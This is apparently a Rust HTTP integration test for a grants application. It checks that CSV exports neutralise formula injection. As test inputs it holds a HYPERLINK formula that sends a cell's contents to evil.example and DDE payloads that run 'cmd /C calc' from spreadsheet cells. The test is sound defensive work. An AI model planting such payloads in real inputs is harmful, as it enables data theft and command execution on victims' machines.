//! Attacks found by trying Pactum as an attacker would, replayed over HTTP: each must fail.

use actix_web::http::Method;
use serde_json::json;

use crate::fixtures::tenant;
use crate::helpers::TestApp;
use crate::on_both_backends;

on_both_backends!(a_formula_in_a_title_comes_out_of_the_csv_as_text);

/// A title a spreadsheet would run as a formula, as an attacker typed it into a grant.
const FORMULA: &str = "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")";

/// Reads a CSV file the way a spreadsheet does and returns every cell it would run as a formula.
fn formulas_in(csv_text: &str) -> Vec<String> {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).from_reader(csv_text.as_bytes());
    reader
        .records()
        .flat_map(|record| record.expect("valid CSV").iter().map(str::to_owned).collect::<Vec<_>>())
        .filter(|cell| pactum::domain::spreadsheet::is_formula(cell))
        .collect()
}

async fn a_formula_in_a_title_comes_out_of_the_csv_as_text(app: TestApp) {
    let root = app.signed_in("root@platform.example", "Root", true).await;
    let t = tenant(&app, &root, "a").await;
    let created = app
        .post_as(
            &t.treasurer,
            "/api/v1/grants",
            json!({"fund_id": t.fund_id, "network_id": t.network_id, "title": FORMULA,
                "requested_cents": 10_000, "starts_on": "2026-06-01", "ends_on": "2026-08-31",
                "payee": {"iban": "NL91ABNA0417164300", "name": "@SUM(1+1)*cmd|' /C calc'!A0"}}),
        )
        .await;
    assert_eq!(created.status, 201, "{}", created.text());
    let expense = json!({"expenses": [{"spent_on": "2026-03-02", "description": "+1+cmd|' /C calc'!A0",
        "category": "-2+3", "amount_cents": 4250}]});
    let patched = app
        .call(&t.treasurer, Method::PATCH, &format!("/api/v1/reports/{}", t.report_id), Some(expense))
        .await;
    assert_eq!(patched.status, 200, "{}", patched.text());

    let grants = app.get_as(&t.officer, &format!("/api/v1/funds/{}/grants.csv", t.fund_id)).await;
    assert_eq!(grants.status, 200, "{}", grants.text());
    let text = grants.text();
    assert!(text.contains(&format!("'{}", FORMULA.replace('"', "\"\""))), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());

    let expenses = app.get_as(&t.treasurer, &format!("/api/v1/grants/{}/expenses.csv", t.grant_id)).await;
    let text = expenses.text();
    assert!(text.contains("'+1+cmd") && text.contains(",'-2+3,42.50,"), "{text}");
    assert_eq!(formulas_in(&text), Vec::<String>::new());
}
